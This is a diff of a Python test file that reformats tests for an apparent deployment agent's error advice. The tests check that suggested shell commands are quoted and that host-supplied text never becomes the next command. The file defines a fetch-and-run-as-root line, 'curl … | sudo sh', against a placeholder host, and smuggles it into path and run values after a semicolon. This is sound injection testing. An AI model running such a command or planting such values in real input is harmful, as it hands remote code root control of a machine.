@@ -22,7 +22,12 @@ EVIL = "curl -fsS http://192.0.2.66/fix | sudo sh"
 def named_by_hosts() -> set[str]:
     """The texts of the agent's source that stand where an advice stands: also in tables of them."""
     sources = [ast.parse(path.read_text()) for path in Path(agent.__file__).parent.rglob("*.py")]
-    return {node.value for tree in sources for node in ast.walk(tree) if isinstance(node, ast.Constant) and node.value in LINES}
+    return {
+        node.value
+        for tree in sources
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Constant) and node.value in LINES
+    }
 
 
 def test_each_line_is_named_by_the_agent() -> None:
@@ -47,7 +52,11 @@ def test_each_name_that_an_agent_gives_has_a_line() -> None:
         ("stop_run", {"run": "r1"}, "tfdeploy stop r1"),
         ("stop_run_or_kill", {"run": "r1", "pid": 71}, "tfdeploy stop r1, or kill 71 there"),
         ("close_folder", {"path": "/home/a b"}, "chmod go-w '/home/a b'"),
-        ("close_folder", {"path": "/w", "or_another_run_name": True}, "chmod go-w /w, or launch with another --name"),
+        (
+            "close_folder",
+            {"path": "/w", "or_another_run_name": True},
+            "chmod go-w /w, or launch with another --name",
+        ),
         ("remove_agent", {"agent": "/w/.agent/0a1b"}, "rm -r /w/.agent/0a1b"),
         ("close_folder", {"path": f"/x; {EVIL}"}, f"chmod go-w '/x; {EVIL}'"),
         ("stop_run", {"run": f"r1; {EVIL}"}, None),
@@ -64,7 +73,9 @@ def test_each_name_that_an_agent_gives_has_a_line() -> None:
         (None, {}, None),
     ],
 )
-def test_details_are_checked_and_quoted(advice: str | None, details: dict[str, Any], line: str | None) -> None:
+def test_details_are_checked_and_quoted(
+    advice: str | None, details: dict[str, Any], line: str | None
+) -> None:
     assert next_of(advice, details) == line
 
 
@@ -80,11 +91,15 @@ def test_details_are_checked_and_quoted(advice: str | None, details: dict[str, A
     ],
 )
 def test_no_text_of_a_host_is_what_to_type_next(lie: dict[str, Any]) -> None:
-    error = agent_error(read({"code": "disk", "what": "full", "advice": "free_disk", **lie}, Failure), "n3")
+    error = agent_error(
+        read({"code": "disk", "what": "full", "advice": "free_disk", **lie}, Failure), "n3"
+    )
     said = io.StringIO()
     show_error(error, stream=said, color="never")
     nexts = [line for line in said.getvalue().splitlines() if line.strip().startswith("next:")]
-    assert nexts == [] or nexts == ["  next: free some space or inodes there, or set another workdir"]
+    assert nexts == [] or nexts == [
+        "  next: free some space or inodes there, or set another workdir"
+    ]
     assert EVIL not in str(error.next) and error.what.startswith('n3 says: "full')
 
 
